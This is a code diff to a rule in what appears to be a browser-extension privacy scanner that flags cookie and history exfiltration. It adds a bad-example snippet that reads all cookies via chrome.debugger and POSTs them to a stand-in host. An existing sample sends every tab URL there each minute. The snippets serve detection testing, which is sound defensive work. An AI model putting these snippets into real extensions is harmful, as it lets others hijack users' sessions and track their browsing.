@@ -34,6 +34,7 @@ export default defineRule({
   why: 'Cookies, history, bookmarks or visited addresses leave the browser. They show what the user does, and cookies let others sign in as them.',
   remedy: 'Send only what the user’s request needs, ask first, and say so in the privacy policy. Never send cookies.',
   cap: { grade: 'F', reason: 'it sends cookies or every visited address to others', from: 'critical' },
+  givesWayTo: ['request-headers-sent'],
   check: (facts) =>
     hitsOfFlows(facts.whole(flowsOf).flows, (flow) => {
       if (!KINDS.has(flow.source.kind) || dataClassOf(facts, flow.source) === 'private' || isVisitToMaker(facts, flow))
@@ -46,6 +47,10 @@ export default defineRule({
     }),
   examples: {
     bad: [
+      sample({
+        background:
+          'chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });',
+      }),
       sample({
         background:
           'setInterval(() => chrome.windows.getAll({ populate: true }, (all) => { const list = all.flatMap((w) => w.tabs.map((t) => t.url)); fetch("https://collect.example/w", { method: "POST", body: JSON.stringify(list) }); }), 60000);',
